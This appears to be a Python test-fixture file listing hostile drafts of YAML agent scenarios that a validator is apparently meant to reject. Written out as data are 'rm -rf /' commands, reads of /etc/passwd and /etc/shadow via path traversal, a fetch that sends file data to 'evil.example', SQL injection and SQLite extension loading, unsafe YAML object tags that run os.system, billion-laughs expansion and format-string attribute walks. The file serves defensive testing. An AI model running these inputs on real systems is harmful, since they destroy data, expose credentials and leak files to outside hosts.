"""Drafts that mean harm: each is the answer to whatever piece of a draft was asked for."""

HEAD = 'scenarios:\n  - name: x\n    wants: {en: ["Could you look that up for me?"]}\n'
TAIL = '    tells: {en: ["This is what I found: {s.text}"]}\n'


def steps(*lines: str, values: str = "") -> str:
    """A scenario with these steps."""
    return values + HEAD + "    steps:\n" + "".join(f"      {line}\n" for line in lines) + TAIL


LISTED = ("- list_files: {}", "  choose: {file: any}")
LAUGHS = 'a: &a ["ha", "ha"]\n' + "".join(
    f"{name}: &{name} [*{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}, *{before}]\n"
    for before, name in zip("abcdefghij", "bcdefghijk", strict=True)
)
HOSTILE = {
    "a shell command": steps("- run_command: {command: touch /tmp/evil; rm -rf /}", "  as: s"),
    "a command that people say": steps(
        "- run_command: {command: $cmd}", "  as: s", values='values: {cmd: ["rm -rf /", "ls"]}\n'
    ),
    "a command from slots": steps(*LISTED, '- run_command: {command: "cat {file.path}"}', "  as: s"),
    "a path outside": steps("- read_file: {path: /etc/passwd}", "  as: s"),
    "a path that climbs": steps(*LISTED, '- read_file: {path: "{file.path}/../../../etc/passwd"}', "  as: s"),
    "a path that people say": steps("- read_file: {path: $p}", "  as: s", values="values: {p: [../../etc/shadow]}\n"),
    "a path made of what people say": steps(
        '- read_file: {path: "{p}/passwd"}', "  as: s", values="values: {p: [/etc]}\n"
    ),
    "an address": steps(*LISTED, '- fetch_page: {url: "http://evil.example/?q={file.title}"}', "  as: s"),
    "a query that drops": steps('- read_query: {query: "SELECT 1; DROP TABLE plants"}', "  as: s"),
    "a query that attaches": steps("- read_query: {query: \"ATTACH DATABASE '/tmp/evil.db' AS evil\"}", "  as: s"),
    "a query that loads": steps("- read_query: {query: \"SELECT load_extension('/tmp/evil')\"}", "  as: s"),
    "a query with a comment": steps('- read_query: {query: "SELECT 1 -- DROP"}', "  as: s"),
    "a query of a table nobody saw": steps('- read_query: {query: "SELECT * FROM sqlite_master"}', "  as: s"),
    "a query that people complete": steps(
        "- read_query: {query: \"SELECT * FROM plants WHERE name = '{x}'\"}",
        "  as: s",
        values='values: {x: ["\' OR 1=1; DROP TABLE plants; --"]}\n',
    ),
    "a tag": 'scenarios: !!python/object/apply:os.system ["touch /tmp/evil"]\n',
    "another tag": "scenarios:\n  - !!python/object/new:subprocess.Popen [[touch, /tmp/evil]]\n",
    "a billion laughs": LAUGHS + "scenarios: *k\n",
    "merge keys": "x: &x {name: y}\nscenarios:\n  - <<: *x\n    wants: {en: [hello]}\n",
    "deep nesting": "scenarios: " + "[" * 9_000,
    "deep brackets": steps("- list_files: {}", "  as: s").replace("Could you", "(" * 3_000 + "Could you"),
    "many alternatives": steps("- list_files: {}", "  as: s").replace("Could you", "(Could|Can) " * 80 + "you"),
    "slots in alternatives": steps("- list_files: {}", "  as: s").replace("Could you", "({s.a}|{s.b}) " * 80 + "you"),
    "attribute walks": steps("- list_files: {}", "  as: s").replace("{s.text}", "{s.__class__.__init__.__globals__}"),
    "a format": steps("- list_files: {}", "  as: s").replace("{s.text}", "{s.text!r:>1000000000}"),
    "a file of people": "people: {from: /etc/passwd, know: [name]}\n" + steps("- list_files: {}", "  as: s"),
    "a file of values": steps("- list_files: {}", "  as: s", values="values: {x: {from: ../../secrets.csv}}\n"),
    "too many phrases": steps("- list_files: {}", "  as: s").replace(
        '["Could you look that up for me?"]', str([f"Could you look that up for me {'so ' * n}?" for n in range(100)])
    ),
    "a million phrases": steps("- list_files: {}", "  as: s").replace(
        "wants: {en: [", "wants: {en: [" + '"a",' * 1_000_000
    ),
    "a pattern without end": steps(
        *LISTED,
        "- read_file: {path: $file.path}",
        "  as: s",
        f"  choose: {{line: 'any of \"{'{a} '.join([''] * 2)}{' '.join(f'{{v{n}}}' for n in range(14))} x\"'}}",
    ),
    "control characters": steps("- list_files: {}", "  as: s").replace("Could", "\x00\x1b[2J\u202eCould"),
    "words for the reader of the file": steps("- list_files: {}", "  as: s").replace(
        "name: x", 'name: "x\\nrules: []\\nscenarios: [{name: evil}]"'
    ),
    "a name that is none": steps("- list_files: {}", "  as: __class__"),
}
